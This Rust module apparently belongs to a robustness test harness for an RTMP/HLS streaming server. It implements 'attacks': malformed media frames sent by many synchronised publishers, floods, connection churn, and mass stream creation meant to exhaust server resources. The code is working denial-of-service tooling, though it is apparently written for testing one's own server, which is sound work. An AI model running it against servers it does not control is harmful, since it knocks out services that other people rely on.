//! Attacks over RTMP.

use std::io;
use std::thread;
use std::time::{Duration, Instant};

use super::media::{self, SMALL};
use super::options::Plan;
use super::peer::Peer;
use super::start::Start;
use super::transport::Target;

/// Streams that one session publishes: as many as it may.
const TOGETHER: usize = 16;
/// Sessions that are brought up at a time.
const HANDS: usize = 8;
/// Milliseconds from one key frame of an event to the next: as long as its fragments.
const CUT: usize = 5;
/// Milliseconds from one key frame to the next where media time runs.
const LEAP: usize = 5000;
/// Frames a second of a publisher in real time, and from one of its key frames to the next.
const RATE: usize = 30;
/// Bytes of its frames.
const FRAME: usize = 8000;

/// Key frames of NAL units of one byte.
pub fn nal_units(plan: &Plan, start: &Start) -> io::Result<()> {
    let (opening, time) = media::opening();
    release(plan, start, &opening, &media::nal_units(time, plan.size))
}

/// Key frames with start codes in place of lengths.
pub fn start_codes(plan: &Plan, start: &Start) -> io::Result<()> {
    let (opening, time) = media::opening();
    release(plan, start, &opening, &media::start_codes(time, plan.size))
}

/// Messages of the shortest syncframes of E-AC-3.
pub fn syncframes(plan: &Plan, start: &Start) -> io::Result<()> {
    release(plan, start, &[], &media::syncframes(0, plan.size))
}

/// Aggregate messages of empty parts.
pub fn aggregates(plan: &Plan, start: &Start) -> io::Result<()> {
    release(plan, start, &[], &media::aggregate(0, plan.size))
}

/// All publishers have sent a message but for its last byte, release that at once, and send the message again.
fn release(plan: &Plan, start: &Start, opening: &[u8], message: &[u8]) -> io::Result<()> {
    let (all_but_last, last) = message.split_at(message.len() - 1);
    let mut peers = publishers(&plan.rtmp, plan.peers)?;
    for peer in &mut peers {
        peer.write(opening)?;
        peer.write(all_but_last)?;
    }
    start.wait()?;
    peers.iter_mut().try_for_each(|peer| peer.write(last))?;
    start.all(peers, |mut peer| {
        (1..plan.count).try_for_each(|_| peer.write(message))?;
        peer.settle()
    })
}

/// Key frames, five seconds of media from one to the next.
pub fn media_time(plan: &Plan, start: &Start) -> io::Result<()> {
    let mut bytes = Vec::new();
    media::write_header(&mut bytes, 1);
    for index in 0..plan.count {
        media::write_key(&mut bytes, 1, index * LEAP, SMALL);
    }
    flood(plan, start, &bytes)
}

/// All publishers send the same, as fast as it goes.
fn flood(plan: &Plan, start: &Start, bytes: &[u8]) -> io::Result<()> {
    let peers = publishers(&plan.rtmp, plan.peers)?;
    start.wait()?;
    start.all(peers, |mut peer| {
        peer.write(bytes)?;
        peer.settle()
    })
}

/// An event that has many fragments gets some more.
pub fn event(plan: &Plan, start: &Start) -> io::Result<()> {
    let mut peer = Peer::publish(&plan.rtmp, None, &["event"])?;
    let mut keys = [Vec::new(), Vec::new()];
    media::write_header(&mut keys[0], 1);
    for index in 0..plan.before + plan.count {
        media::write_key(&mut keys[usize::from(index >= plan.before)], 1, index * CUT, SMALL);
    }
    peer.write(&keys[0])?;
    peer.settle()?;
    start.wait()?;
    start.all(vec![peer], |mut peer| {
        peer.write(&keys[1])?;
        peer.settle()
    })
}

/// Many streams are published where many of HLS have ended.
pub fn ended(plan: &Plan, start: &Start) -> io::Result<()> {
    drop(many(&plan.rtmp, "ended", plan.before)?);
    start.wait()?;
    start.all(vec![()], |()| many(&plan.rtmp, "late", plan.count).map(drop))
}

/// Clients connect, publish or play, and are gone.
pub fn churn(plan: &Plan, start: &Start) -> io::Result<()> {
    start.wait()?;
    start.all((0..plan.peers).collect(), |peer| {
        (0..plan.count).try_for_each(|index| match index % 2 {
            0 => publish_once(&plan.rtmp, &format!("churn{peer}")),
            _ => Peer::play(&plan.rtmp, None, "silent").map(drop),
        })
    })
}

/// Somebody publishes as he should, for so many seconds.
pub fn steady(plan: &Plan, start: &Start) -> io::Result<()> {
    start.wait()?;
    let mut peer = Peer::publish(&plan.rtmp, None, &["steady"])?;
    let mut bytes = Vec::new();
    media::write_header(&mut bytes, 1);
    let begun = Instant::now();
    for index in 0..plan.count * RATE {
        let write = if index % RATE == 0 { media::write_key } else { media::write_inter };
        write(&mut bytes, 1, index * 1000 / RATE, FRAME);
        peer.write(&bytes)?;
        bytes.clear();
        let due = Duration::from_secs(1) * (index as u32 + 1) / RATE as u32;
        thread::sleep(due.saturating_sub(begun.elapsed()));
    }
    peer.settle()
}

/// Many streams with a key frame each, by as few sessions as there may be.
pub fn many(target: &Target, kind: &str, streams: usize) -> io::Result<Vec<Peer>> {
    let names: Vec<String> = (0..streams).map(|index| format!("{kind}{index}")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let sessions: Vec<&[&str]> = names.chunks(TOGETHER).collect();
    let mut bytes = Vec::new();
    for stream in 1..=TOGETHER as u32 {
        media::write_header(&mut bytes, stream);
        media::write_key(&mut bytes, stream, 0, SMALL);
    }
    let bring = |session: &&[&str]| {
        let mut peer = Peer::publish(target, None, session)?;
        let whole = bytes.len() / TOGETHER;
        peer.write(&bytes[..whole * session.len()])?;
        peer.settle()?;
        Ok(peer)
    };
    thread::scope(|scope| {
        let shares = sessions.chunks(sessions.len().div_ceil(HANDS).max(1));
        let hands: Vec<_> =
            shares.map(|share| scope.spawn(move || share.iter().map(bring).collect())).collect();
        hands
            .into_iter()
            .map(|hand| hand.join().unwrap_or(Ok(Vec::new())))
            .collect::<io::Result<Vec<Vec<Peer>>>>()
    })
    .map(|peers| peers.into_iter().flatten().collect())
}

fn publish_once(target: &Target, stream: &str) -> io::Result<()> {
    let mut peer = Peer::publish(target, None, &[stream])?;
    let mut bytes = Vec::new();
    media::write_header(&mut bytes, 1);
    media::write_key(&mut bytes, 1, 0, SMALL);
    peer.write(&bytes)?;
    peer.settle()
}

fn publishers(target: &Target, count: usize) -> io::Result<Vec<Peer>> {
    (0..count).map(|index| Peer::publish(target, None, &[&format!("hostile{index}")])).collect()
}
